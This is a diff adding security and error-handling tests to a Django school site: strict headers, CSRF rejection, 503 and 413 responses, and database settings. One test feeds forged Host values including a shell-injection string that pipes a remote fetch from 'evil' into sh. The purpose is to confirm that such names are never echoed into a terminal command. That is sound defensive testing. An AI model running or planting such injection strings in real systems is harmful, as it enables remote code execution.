@@ -6,8 +6,10 @@ import re
 import subprocess
 import sys
 from pathlib import Path
+from unittest import mock
 
 import pytest
+import time_machine
 from crispy_forms.utils import render_crispy_form
 from django.conf import settings
 from django.core.checks import run_checks
@@ -18,6 +20,7 @@ from django.test import Client, RequestFactory, override_settings
 from django.urls import path
 
 from people.forms import ReadingSettingsForm, SetUpForm
+from people.models import School
 from terror_site import checks, urls, views
 from tests.base import SchoolTestCase
 
@@ -74,6 +77,31 @@ class HeadersTest(SchoolTestCase):
                 self.assertEqual(response["Referrer-Policy"], "same-origin")
                 self.assertIn("camera=()", response["Permissions-Policy"])
 
+    def test_refusals_redirects_and_static_files_are_strict_too(self):
+        self.sign_in("sam")
+        answers = {
+            405: self.client.post("/lessons/"),
+            400: self.client.get("/", headers={"host": "unknown.lan"}),
+            404: self.client.get("/static/nothing.css"),
+        }
+        with override_settings(SECURE_SSL_REDIRECT=True):
+            answers[301] = Client().get("/privacy/")
+        for status, response in answers.items():
+            with self.subTest(status=status):
+                self.assertEqual(response.status_code, status)
+                self.assertIn("default-src 'self'", response["Content-Security-Policy"])
+                self.assertEqual(response["X-Frame-Options"], "DENY")
+                self.assertIn("no-store", response["Cache-Control"])
+
+    def test_times_stand_in_the_schools_zone(self):
+        School.objects.update_or_create(pk=1, defaults={"time_zone": "Asia/Tokyo"})
+        School.forget_current()
+        with time_machine.travel("2026-11-24T20:00Z", tick=False):
+            self.sign_in("sam")
+            response = self.client.get("/")
+
+        self.assertContains(response, "Wednesday 25 November 2026")
+
     def test_pages_refuse_to_be_framed(self):
         self.assertEqual(self.client.get("/privacy/")["X-Frame-Options"], "DENY")
 
@@ -122,9 +150,15 @@ class ErrorsTest(SchoolTestCase):
 
         self.assertContains(
             response,
-            "ALLOWED_HOSTS=localhost,127.0.0.1,history.school.lan make run",
+            f"ALLOWED_HOSTS={','.join([*settings.ALLOWED_HOSTS, 'history.school.lan'])}<",
             status_code=400,
         )
+
+    def test_a_forged_name_is_never_offered_for_the_terminal(self):
+        for host in ("a;curl${IFS}evil|sh", "a$(x)", "-x", "x y"):
+            with self.subTest(host=host):
+                response = self.client.get("/", headers={"host": host})
+                self.assertNotContains(response, "ALLOWED_HOSTS", status_code=400)
 
     def test_a_forged_name_of_the_site_is_escaped(self):
         response = self.client.get("/", headers={"host": "<script>"})
@@ -156,6 +190,37 @@ class ErrorsTest(SchoolTestCase):
 
         self.assertContains(response, "not for you", status_code=403)
 
+    def test_a_database_that_is_away_is_503_from_every_layer(self):
+        def away(self):
+            raise OperationalError("could not connect")
+
+        self.sign_in("sam")
+        with mock.patch("people.sessions.SessionStore.load", away):
+            response = self.client.get("/")
+            alive = Client().get("/health/alive")
+
+        self.assertContains(response, "Wait ten seconds", status_code=503)
+        self.assertEqual(response["Retry-After"], "10")
+        self.assertEqual(alive.content, b"alive\n")
+
+    def test_a_form_with_a_foreign_referer_is_not_offered_again(self):
+        strict = Client(enforce_csrf_checks=True)
+        strict.force_login(self.sam)
+        response = strict.post(
+            "/reading-settings/",
+            {"paper": "cream"},
+            secure=True,
+            headers={"referer": "https://evil.example/"},
+        )
+
+        self.assertContains(response, "not for you", status_code=403)
+
+    def test_what_is_too_large_is_said(self):
+        self.sign_in("sam")
+        response = self.client.post("/reading-settings/", {"paper": "x" * 3_000_000})
+
+        self.assertContains(response, "too large", status_code=413)
+
     def test_health_is_quiet(self):
         self.assertEqual(self.client.get("/health/alive").content, b"alive\n")
         self.assertEqual(self.client.get("/health/ready").content, b"ready\n")
@@ -184,7 +249,7 @@ def settings_in(**environment):
     names = (
         "SESSION_COOKIE_SECURE", "SESSION_COOKIE_NAME", "CSRF_COOKIE_NAME",
         "SECURE_SSL_REDIRECT", "SECURE_HSTS_SECONDS", "DEBUG",
-        "SECURE_PROXY_SSL_HEADER",
+        "SECURE_PROXY_SSL_HEADER", "DATABASES",
     )  # fmt: skip
     code = (
         "from django.conf import settings;"
@@ -218,6 +283,15 @@ def test_one_switch_chooses_between_https_and_the_schools_lan():
     assert not plain["SECURE_SSL_REDIRECT"]
     assert plain["SECURE_HSTS_SECONDS"] == 0
     assert not secure["DEBUG"] and not plain["DEBUG"]
+
+
+def test_the_databases_own_options_are_kept():
+    options = settings_in(
+        DATABASE_URL="postgres://u@h/db?sslmode=verify-full", SITE_SCHEME="http"
+    )["DATABASES"]["default"]["OPTIONS"]
+
+    assert options["sslmode"] == "verify-full"
+    assert "synchronous_commit=on" in options["options"]
 
 
 def test_a_forwarded_scheme_is_believed_only_behind_a_declared_proxy():
@@ -304,5 +378,12 @@ def test_the_guides_name_no_machine_of_ours():
     ).stdout.split("\0")
     for name in filter(None, tracked):
         file = BASE / name
-        if file.suffix in {".md", ".py", ".html", ".txt", ".yaml", ".toml"}:
+        if file.exists() and file.suffix in {
+            ".md",
+            ".py",
+            ".html",
+            ".txt",
+            ".yaml",
+            ".toml",
+        }:
             assert "/root" + "/" not in file.read_text(), name
